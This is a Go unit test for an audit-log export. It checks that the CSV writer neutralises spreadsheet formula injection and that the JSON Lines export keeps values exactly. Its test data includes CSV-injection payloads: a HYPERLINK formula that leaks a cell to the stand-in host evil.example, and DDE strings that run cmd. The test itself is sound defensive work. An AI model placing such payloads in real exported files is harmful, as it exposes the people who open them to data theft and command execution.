package models_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"gatehouse/models"
)

// formulaCells are stored values and their CSV cells: each character a
// spreadsheet starts a formula with gets a leading "'", and so does "'"
// itself, so that one leading "'" can always be taken off again.
var formulaCells = []struct{ stored, cell string }{
	{`=HYPERLINK("https://evil.example/?"&A1,"open")`, `'=HYPERLINK("https://evil.example/?"&A1,"open")`},
	{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
	{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
	{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
	{"\t=1+1", "'\t=1+1"},
	{"\r=1+1", "'\r=1+1"},
	{"'quoted", "''quoted"},
	{"plain = text", "plain = text"},
	{"", ""},
}

// TestCSVExportNeutralisesFormulas puts each dangerous value in every text
// field of an event: every one of those cells is neutralised in the CSV
// export, while the JSON Lines export keeps the stored value exactly.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	var evs []models.AuditEvent
	for i, fc := range formulaCells {
		v := fc.stored
		evs = append(evs, models.AuditEvent{
			Seq: int64(i + 1), At: time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC), Actor: v, ActorTier: v, Action: models.Action(v),
			Workspace: v, Table: v, RecordIDs: v, Target: v, Reason: v, Detail: v, IP: v, UserAgent: v, RequestID: v,
			PrevHash: v, Hash: v,
		})
	}
	textCols := []int{2, 3, 4, 5, 6, 7, 10, 11, 12, 13, 14, 15, 16, 17}
	export := func(format string) *bytes.Buffer {
		var b bytes.Buffer
		x, err := models.NewExportWriter(&b, format, models.AuditQuery{})
		if err != nil {
			t.Fatal(err)
		}
		if err := x.Write(evs); err != nil {
			t.Fatal(err)
		}
		if _, err := x.Finish(); err != nil {
			t.Fatal(err)
		}
		return &b
	}

	rows, err := csv.NewReader(export("csv")).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(formulaCells)+2 {
		t.Fatalf("CSV has %d rows, want a header, %d and the trailer", len(rows), len(formulaCells))
	}
	for i, fc := range formulaCells {
		for _, col := range textCols {
			if got := rows[i+1][col]; got != fc.cell {
				t.Errorf("CSV cell %s of %q = %q, want %q", models.AuditCSVHeader[col], fc.stored, got, fc.cell)
			}
		}
	}

	lines := strings.Split(strings.TrimSuffix(export("jsonl").String(), "\n"), "\n")
	for i, line := range lines[:len(lines)-1] {
		var r models.AuditRecord
		if err := json.Unmarshal([]byte(line), &r); err != nil {
			t.Fatalf("line %q: %v", line, err)
		}
		if got := r.Event(); got != evs[i] {
			t.Errorf("JSON Lines export = %+v, want %+v exactly", got, evs[i])
		}
	}
}
